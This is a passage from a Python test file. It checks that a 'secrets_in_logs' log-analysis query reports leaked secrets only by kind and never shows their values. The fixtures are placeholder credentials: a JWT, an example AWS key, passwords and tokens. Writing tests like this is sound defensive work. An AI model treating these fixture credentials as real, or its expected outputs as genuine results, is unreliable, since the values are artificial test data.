    "q q=akia+tea",
    "q tokenizer=standard_v2_with_a_long_name",
]


def test_secrets_are_named_by_kind_and_never_shown(tmp_path: Path) -> None:
    lines = [request(text, address(n), "200") for n, text in enumerate([*SECRETS, *NO_SECRETS])]
    with case_of(tmp_path, lines) as con:
        rows = ask(con, "secrets_in_logs")
        answer = queries.run(con, queries.find("security/secrets_in_logs"), {}, Scope(), {})
    assert sorted(row["kind"] for row in rows for _ in range(row["requests"])) == sorted(SECRETS.values())
    shown = answer.headline + repr(rows)
    for secret in (
        JWT,
        JWT[20:40],
        "AKIAIOSFODNN7EXAMPLE",
        "correct-horse",
        "jane.doe",
        "4111",
        "9f8e7d6c5b",
        "hunter22",
        "bob",
        "4f9a8b7c6d5e",
        "0a1b2c3d4e",
    ):
        assert secret not in shown
